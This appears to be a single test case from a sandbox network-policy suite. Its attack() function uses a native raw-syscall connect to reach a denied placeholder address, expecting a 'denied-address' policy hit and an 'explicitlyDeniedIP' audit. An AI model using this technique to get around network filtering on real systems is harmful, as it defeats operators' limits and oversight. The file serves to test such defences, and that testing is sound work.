"""A library with its own system-call instruction
Connects from a library of one's own that asks the kernel itself.
policy: denied-address
audit: explicitlyDeniedIP
proof: arrival
"""


def attack(at):
    stream = at.tcp()
    stream.settimeout(None)
    at.native().own_connect(stream.fileno(), at.address4(at.FOE, at.PORT), 16)
    return at.say(stream)
